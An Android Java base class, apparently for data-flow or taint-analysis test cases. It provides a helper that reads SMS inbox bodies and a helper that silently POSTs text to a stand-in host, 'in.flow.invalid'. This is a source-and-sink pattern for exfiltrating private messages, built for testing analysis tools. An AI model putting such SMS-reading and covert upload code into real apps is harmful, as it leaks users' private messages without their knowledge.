package com.example.flow;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

/** Where the text of all flow cases comes from and where it may go. */
public abstract class FlowService extends Service {
  abstract void run(Intent intent) throws Exception;

  @Override
  public int onStartCommand(Intent intent, int flags, int startId) {
    try {
      run(intent);
    } catch (Exception e) {
      Log.w("flow", "stopped");
    }
    return START_NOT_STICKY;
  }

  @Override
  public IBinder onBind(Intent intent) {
    return null;
  }

  String readSms() {
    return read("content://sms/inbox", "body");
  }

  String read(String uri, String column) {
    Cursor cursor =
        getContentResolver().query(Uri.parse(uri), new String[] {column}, null, null, null);
    try {
      return cursor.moveToFirst() ? cursor.getString(0) : "";
    } finally {
      cursor.close();
    }
  }

  static void upload(String text) {
    try {
      URL url = new URL("https://in.flow.invalid/v1");
      HttpURLConnection connection = (HttpURLConnection) url.openConnection();
      connection.setDoOutput(true);
      OutputStream out = connection.getOutputStream();
      out.write(text.getBytes(StandardCharsets.UTF_8));
      out.close();
    } catch (IOException e) {
      Log.w("flow", "not sent");
    }
  }
}
